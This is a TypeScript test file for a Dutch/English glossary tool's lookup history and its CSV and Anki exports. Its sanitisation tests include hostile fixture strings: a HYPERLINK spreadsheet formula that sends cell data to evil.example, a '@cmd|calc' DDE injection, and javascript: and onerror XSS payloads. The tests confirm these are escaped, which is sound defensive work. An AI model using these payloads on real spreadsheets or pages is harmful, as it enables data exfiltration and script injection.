import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CURATED_ENTRIES } from '../../../glossary/data';
import {
  daysAgo,
  equivalentOf,
  filterHistory,
  groupByDay,
  HISTORY_CAP,
  historyUrl,
  isLookup,
  type Lookup,
  localDateTime,
  recordLookup,
  validLookups,
} from '../../../glossary/history';
import { historyFileName, historyToAnkiTsv, historyToCsv } from '../../../glossary/history-export';
import type { Entry } from '../../../glossary/schema';
import { GlossarySearch } from '../../../glossary/search';

const byId = new Map(CURATED_ENTRIES.map((e) => [e.id, e]));
const search = new GlossarySearch(CURATED_ENTRIES);
const PAGE = 'https://www.rijksoverheid.nl/documenten/kamerstukken/2025/01/31/voortgang';
const T0 = new Date('2026-11-30T09:00:00Z');
const minutes = (n: number) => new Date(T0.getTime() + n * 60_000);

const lookup = (over: Partial<Omit<Lookup, 'at'>> = {}): Omit<Lookup, 'at'> => ({
  entryId: 'nmi',
  term: 'NMI',
  how: 'hover',
  title: 'Voortgangsrapportage Irak',
  url: PAGE,
  ...over,
});

/** A history made by recording `lookups` one after another, a minute apart. */
function history(...lookups: Omit<Lookup, 'at'>[]): Lookup[] {
  return lookups.reduce<Lookup[]>((list, l, i) => recordLookup(list, l, { now: minutes(i) }), []);
}

describe('recordLookup', () => {
  it('puts the newest lookup first, with the time it was made', () => {
    const list = history(lookup(), lookup({ entryId: 'red-card-holder', term: 'Red Card Holder' }));
    expect(list.map((l) => l.entryId)).toEqual(['red-card-holder', 'nmi']);
    expect(list[0]?.at).toBe('2026-11-30T09:01:00.000Z');
  });

  it('counts the same entry on the same page within 30 minutes once: moved to the top, time updated', () => {
    let list = history(lookup(), lookup({ entryId: 'isis', term: 'ISIS' }));
    list = recordLookup(list, lookup({ how: 'tap', url: `${PAGE}#paragraaf-3` }), { now: minutes(29) });
    expect(list.map((l) => [l.entryId, l.how, l.at])).toEqual([
      ['nmi', 'tap', minutes(29).toISOString()],
      ['isis', 'hover', minutes(1).toISOString()],
    ]);
    // The #fragment is not part of the page, and is not kept.
    expect(list[0]?.url).toBe(PAGE);
  });

  it('keeps a new record after 30 minutes, on another page, and for another entry', () => {
    let list = history(lookup());
    list = recordLookup(list, lookup(), { now: minutes(31) });
    list = recordLookup(list, lookup({ url: `${PAGE}?pagina=2` }), { now: minutes(32) });
    list = recordLookup(list, lookup({ entryId: 'isis' }), { now: minutes(33) });
    expect(list).toHaveLength(4);
  });

  it('tells local files apart by their name (they have no address)', () => {
    let list = history(lookup({ how: 'reader', url: '', title: 'brief.pdf' }));
    list = recordLookup(list, lookup({ how: 'reader', url: '', title: 'brief.pdf' }), { now: minutes(5) });
    list = recordLookup(list, lookup({ how: 'reader', url: '', title: 'nota.pdf' }), { now: minutes(6) });
    expect(list.map((l) => l.title)).toEqual(['nota.pdf', 'brief.pdf']);
  });

  it('drops the oldest beyond the cap (1,000 by default)', () => {
    let list: Lookup[] = [];
    for (let i = 0; i < HISTORY_CAP + 5; i++)
      list = recordLookup(list, lookup({ entryId: `entry-${i}` }), { now: minutes(i) });
    expect(list).toHaveLength(HISTORY_CAP);
    expect(list[0]?.entryId).toBe(`entry-${HISTORY_CAP + 4}`);
    expect(list.at(-1)?.entryId).toBe('entry-5');
    expect(recordLookup(list, lookup(), { cap: 3, now: minutes(2000) }).map((l) => l.entryId)).toEqual([
      'nmi',
      `entry-${HISTORY_CAP + 4}`,
      `entry-${HISTORY_CAP + 3}`,
    ]);
  });

  it('keeps titles and terms on one line and short, and only http(s) addresses', () => {
    const [record] = recordLookup([], lookup({ title: `  Een\ttitel\nover\r\n${'x'.repeat(400)}` }));
    expect(record?.title).toMatch(/^Een titel over x+$/);
    expect(record?.title).toHaveLength(300);
    expect(recordLookup([], lookup({ url: 'javascript:alert(1)' }))[0]?.url).toBe('');
    expect(recordLookup([], lookup({ url: 'file:///home/a/brief.pdf' }))[0]?.url).toBe('');
    expect(historyUrl(`https://a.nl/${'x'.repeat(3000)}`)).toBe('');
  });
});

describe('reading a stored history', () => {
  it('keeps valid lookups and leaves out anything else', () => {
    const [good] = history(lookup());
    const stored = [
      good,
      null,
      'nmi',
      { ...good, how: 'telepathy' },
      { ...good, at: 'gisteren' },
      { ...good, entryId: '' },
    ];
    expect(validLookups(stored)).toEqual([good]);
    expect(validLookups({ not: 'a list' })).toEqual([]);
    expect(isLookup({ ...good, title: 42 })).toBe(false);
  });
});

describe('filterHistory', () => {
  const list = history(
    lookup({ entryId: 'nmi', term: 'NMI' }),
    lookup({ entryId: 'artikel-100-brief', term: 'artikel 100-brieven', title: 'Kamerbrief over Irak' }),
    lookup({
      entryId: 'red-card-holder',
      term: 'Red Card Holder',
      title: 'Letter to parliament',
      url: 'https://www.government.nl/documents/letter',
    }),
  );
  const ids = (query: string) => filterHistory(list, query, search).map((l) => l.entryId);

  it('keeps everything for an empty query', () => {
    expect(ids('  ')).toEqual(['red-card-holder', 'artikel-100-brief', 'nmi']);
  });

  it('finds lookups by the entry, as the glossary search finds it: typos, either language, acronym', () => {
    expect(ids('nmi')).toEqual(['nmi']);
    expect(ids('NATO Mission Iraq')).toEqual(['nmi']);
    expect(ids('artkel 100 brief')).toEqual(['artikel-100-brief']);
    expect(ids('article 100 letter')).toEqual(['artikel-100-brief']);
  });

  it('finds lookups by the page title or host, as plain text', () => {
    expect(ids('kamerbrief over')).toEqual(['artikel-100-brief']);
    expect(ids('government.nl')).toEqual(['red-card-holder']);
    expect(ids('zzzz')).toEqual([]);
  });
});

describe('days', () => {
  it('groups lookups by local day, newest first, and counts days back', () => {
    const at = (iso: string): Lookup => ({ ...lookup(), at: iso });
    const late = new Date(2026, 10, 30, 23, 30);
    const early = new Date(2026, 10, 30, 0, 10);
    const before = new Date(2026, 10, 29, 12, 0);
    const groups = groupByDay([at(late.toISOString()), at(early.toISOString()), at(before.toISOString())]);
    expect(groups.map((g) => [g.day, g.lookups.length])).toEqual([
      ['2026-11-30', 2],
      ['2026-11-29', 1],
    ]);
    expect(daysAgo('2026-11-30', late)).toBe(0);
    expect(daysAgo('2026-11-29', early)).toBe(1);
    expect(daysAgo('2026-10-01', late)).toBe(60);
  });
});

describe('equivalentOf', () => {
  it('gives the entry’s name in the language asked, an acronym’s full name', () => {
    expect(equivalentOf(byId.get('nmi') as Entry, 'en')).toBe('NATO Mission Iraq');
    expect(equivalentOf(byId.get('nmi') as Entry, 'nl')).toBe('NAVO-missie in Irak');
    // CDS spells out Dutch letters in both sections; its English name is another.
    expect(equivalentOf(byId.get('cds') as Entry, 'en')).toBe('Chief of Defence');
    expect(equivalentOf(byId.get('artikel-100-brief') as Entry, 'en')).toBe('Article 100 letter');
  });
  it('is never the bare acronym where an expansion says more', () => {
    const nmi = byId.get('nmi') as Entry;
    const bare = { ...nmi, en: { ...nmi.en, term: 'NMI', expansion: 'NATO Mission Iraq' } };
    expect(equivalentOf(bare, 'en')).toBe('NATO Mission Iraq');
  });
});

const rowsOf = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true }).data;

describe('historyToCsv', () => {
  it('has a row per lookup with the date, term, expansion, equivalent, short definition, how and page', () => {
    const list = history(
      lookup(),
      lookup({ entryId: 'artikel-100-brief', term: 'artikel 100-brieven', how: 'search' }),
    );
    const csv = historyToCsv(list, byId, 'en');
    expect(csv.split('\r\n')[0]).toBe('date,term,expansion,equivalent_en,definition_en,how,title,url');
    const [brief, nmi] = rowsOf(csv);
    expect(brief).toMatchObject({
      date: localDateTime(minutes(1)),
      term: 'artikel 100-brieven',
      expansion: '',
      equivalent_en: 'Article 100 letter',
      how: 'search',
      title: 'Voortgangsrapportage Irak',
      url: PAGE,
    });
    expect(brief?.definition_en).toMatch(/^A letter in which the Dutch government informs parliament/);
    // The short definition is its first sentence.
    expect(brief?.definition_en).not.toContain('Assessment Framework');
    expect(nmi).toMatchObject({ term: 'NMI', expansion: 'NATO Mission Iraq', how: 'hover' });
  });

  it('says it in Dutch when asked', () => {
    const [nmi] = rowsOf(historyToCsv(history(lookup()), byId, 'nl'));
    expect(nmi).toMatchObject({ expansion: 'NAVO-missie in Irak', equivalent_nl: 'NAVO-missie in Irak' });
    expect(nmi?.definition_nl).toMatch(/^Niet-gevechtsmissie van de NAVO die op verzoek van Irak/);
  });

  it('keeps hostile titles as text: no formula, no broken row', () => {
    const hostile = history(
      lookup({ title: '=HYPERLINK("https://evil.example/?"&A1,"klik")' }),
      lookup({ entryId: 'isis', title: '+SUM(1,2); "quoted", and, commas' }),
      lookup({ entryId: 'oir', title: '@cmd|calc' }),
    );
    const csv = historyToCsv(hostile, byId, 'en');
    const rows = rowsOf(csv);
    expect(rows.map((r) => r.title)).toEqual([
      "'@cmd|calc",
      `'+SUM(1,2); "quoted", and, commas`,
      `'=HYPERLINK("https://evil.example/?"&A1,"klik")`,
    ]);
    expect(csv.split('\r\n')).toHaveLength(4);
  });

  it('keeps the row of an entry that no longer exists, with what the history knows', () => {
    const [gone] = rowsOf(
      historyToCsv(history(lookup({ entryId: 'mijn-verwijderde-term', term: 'XYZ' })), byId, 'en'),
    );
    expect(gone).toMatchObject({ term: 'XYZ', equivalent_en: '', definition_en: '', how: 'hover' });
  });
});

/** The notes of an Anki export: header lines apart, each line split into its fields. */
function ankiNotes(tsv: string) {
  const lines = tsv.split('\n').filter((line) => line !== '');
  return {
    headers: lines.filter((line) => line.startsWith('#')),
    notes: lines.filter((line) => !line.startsWith('#')).map((line) => line.split('\t')),
  };
}

describe('historyToAnkiTsv', () => {
  const labels = { seenIn: 'Seen in' };

  it('starts with Anki’s file headers: tab, HTML, three columns with the tags in the third', () => {
    const { headers } = ankiNotes(historyToAnkiTsv(history(lookup()), byId, labels));
    expect(headers).toEqual([
      '#separator:tab',
      '#html:true',
      '#notetype:Basic',
      '#deck:Begrip',
      '#columns:Front\tBack\tTags',
      '#tags column:3',
    ]);
  });

  it('makes one note per entry: the Dutch term (with the expansion) on the front, English on the back', () => {
    const list = history(
      lookup(),
      lookup({ entryId: 'artikel-100-brief', title: 'Kamerbrief' }),
      lookup({ url: `${PAGE}-2`, title: 'Tweede brief' }),
    );
    const { notes } = ankiNotes(historyToAnkiTsv(list, byId, labels));
    expect(notes).toHaveLength(2);
    const [nmi, brief] = notes;
    expect(nmi?.[0]).toBe('NMI (NAVO-missie in Irak)');
    expect(nmi?.[1]).toMatch(/^<b>NATO Mission Iraq<\/b><br>NATO's non-combat mission that/);
    expect(nmi?.[1]).toContain('<small>Seen in: Tweede brief; Voortgangsrapportage Irak</small>');
    expect(nmi?.[2]).toBe('begrip begrip::mission');
    expect(brief?.[0]).toBe('artikel 100-brief');
    expect(brief?.[1]).toMatch(/^<b>Article 100 letter<\/b><br>A letter in which/);
    expect(brief?.[2]).toBe('begrip begrip::parliament');
  });

  it('escapes hostile titles: no markup, no extra field or row', () => {
    const list = history(lookup({ title: '<img src=x onerror=alert(1)>\t"Brief" & co\nregel 2' }));
    const tsv = historyToAnkiTsv(list, byId, labels);
    const { notes } = ankiNotes(tsv);
    expect(notes).toHaveLength(1);
    expect(notes[0]).toHaveLength(3);
    expect(notes[0]?.[1]).toContain(
      'Seen in: &lt;img src=x onerror=alert(1)&gt; &quot;Brief&quot; &amp; co regel 2',
    );
    expect(notes[0]?.[1]).not.toContain('<img');
  });

  it('escapes entry text too, and leaves out entries that no longer exist', () => {
    const own: Entry = {
      id: 'a-b',
      kind: 'term',
      category: 'concept',
      nl: { term: 'A & B <test>', definition: 'Een "eigen" term.' },
      en: { term: 'A & B', definition: 'An own term.' },
      forms: [],
      context: [],
      related: [],
      sources: [],
      own: true,
    };
    const list = history(lookup({ entryId: 'a-b' }), lookup({ entryId: 'verwijderd' }));
    const { notes } = ankiNotes(historyToAnkiTsv(list, new Map([['a-b', own]]), labels));
    expect(notes.map((n) => n[0])).toEqual(['A &amp; B &lt;test&gt;']);
    expect(notes[0]?.[1]).toMatch(/^<b>A &amp; B<\/b><br>An own term\./);
  });
});

describe('historyFileName', () => {
  it('names the file after the day', () => {
    const day = new Date(2026, 10, 30, 12);
    expect(historyFileName('csv', day)).toBe('begrip-history-2026-11-30.csv');
    expect(historyFileName('anki', day)).toBe('begrip-history-anki-2026-11-30.txt');
  });
});
